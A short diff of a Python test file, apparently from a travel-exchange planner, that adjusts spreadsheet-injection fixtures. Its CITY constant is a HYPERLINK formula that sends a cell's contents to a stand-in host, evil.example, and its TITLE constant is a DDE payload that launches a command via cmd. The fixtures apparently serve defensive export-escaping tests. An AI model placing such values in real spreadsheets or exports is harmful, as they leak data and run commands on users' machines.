@@ -21,7 +21,7 @@ from exchange_planner.services.registry import Services
 from exchange_planner.storage.database import open_database
 
 CITY = '=HYPERLINK("http://evil.example/?x="&A1,"Gwangju")'
-TITLE = "@SUM(1+1)*cmd|' /C calc'!A0\r\nnext,row;\"quoted\""
+TITLE = "@SUM(1+1)*cmd|' /C calc'!A0\nnext,row;\"quoted\""  # stored text keeps \n only
 
 
 @pytest.mark.parametrize(
